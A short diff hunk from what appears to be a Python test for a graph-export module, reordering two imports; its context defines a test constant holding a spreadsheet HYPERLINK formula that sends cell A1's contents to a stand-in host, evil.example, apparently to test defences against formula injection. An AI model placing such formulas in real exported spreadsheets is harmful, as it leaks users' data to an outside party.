@@ -9,8 +9,8 @@ import xml.etree.ElementTree as ET
 import networkx as nx
 import pytest
 
-from kg.network.export import cell, xml_text
 from conftest import run_kg
+from kg.network.export import cell, xml_text
 
 FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
 
